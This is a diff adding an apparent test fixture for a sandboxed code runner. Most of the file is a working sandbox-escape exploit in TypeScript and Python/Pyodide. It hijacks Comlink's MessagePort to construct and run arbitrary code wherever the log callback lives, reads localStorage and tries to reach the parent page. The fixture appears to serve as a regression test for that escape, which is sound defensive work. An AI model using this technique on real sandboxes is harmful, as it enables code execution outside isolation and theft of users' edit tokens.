@@ -1,0 +1,68 @@
+/**
+ * A hostile handler, as an attacker would share it: inside its worker it catches the Comlink port
+ * behind the log callback (by patching `MessagePort.prototype.postMessage` and printing a line),
+ * then sends Comlink `CONSTRUCT`/`APPLY` messages down it that build and run `Function(PAYLOAD)`
+ * wherever the callback lives. It returns what the payload found. Before the runner frame, the
+ * callback lived on the page: the payload read every edit token in `localStorage`.
+ */
+
+/** Runs where the log callback lives; reports what it could reach, and tries to mark the page. */
+const PAYLOAD = `
+  const found = { ranIn: String(self.origin) };
+  try { found.storage = Object.keys(localStorage).length + " keys"; }
+  catch (error) { found.storage = "denied: " + error.name; }
+  try { parent.__fnpadPwned = true; top.document.title = "pwned"; found.page = "reached"; }
+  catch (error) { found.page = "denied: " + error.name; }
+  return JSON.stringify(found);
+`;
+
+/** The body of `async (trigger) => …`; `trigger()` must print a line through the runtime. */
+const ATTACK = `return (async () => {
+  const port = await new Promise((resolve) => {
+    const original = MessagePort.prototype.postMessage;
+    MessagePort.prototype.postMessage = function (...args) {
+      MessagePort.prototype.postMessage = original;
+      resolve(this);
+      return original.apply(this, args);
+    };
+    trigger();
+  });
+  const call = (target, message) => new Promise((resolve) => {
+    const id = "attack-" + Math.random();
+    target.addEventListener("message", function listen(event) {
+      if (event.data?.id !== id) return;
+      target.removeEventListener("message", listen);
+      resolve(event.data);
+    });
+    target.start();
+    target.postMessage({ id, ...message });
+  });
+  const made = await call(port, {
+    type: "CONSTRUCT",
+    path: ["constructor"],
+    argumentList: [{ type: "RAW", value: ${JSON.stringify(PAYLOAD)} }],
+  });
+  const result = await call(made.value, { type: "APPLY", path: [], argumentList: [] });
+  return result.value;
+})();`;
+
+/** The attack as a TypeScript handler. */
+export const TYPESCRIPT_ATTACK = `export default async function handler() {
+  const attack = new Function("trigger", ${JSON.stringify(ATTACK)});
+  const found = await attack(() => console.log("innocent line"));
+  return new Response(found, { headers: { "content-type": "application/json" } });
+}
+`;
+
+/** The same attack as a Python handler, through Pyodide's \`js\` module. */
+export const PYTHON_ATTACK = `import json
+from js import Function
+from pyodide.ffi import create_proxy
+
+ATTACK = ${JSON.stringify(ATTACK)}
+
+async def handler(request):
+    attack = Function.new("trigger", ATTACK)
+    found = await attack(create_proxy(lambda: print("innocent line")))
+    return json.loads(found)
+`;
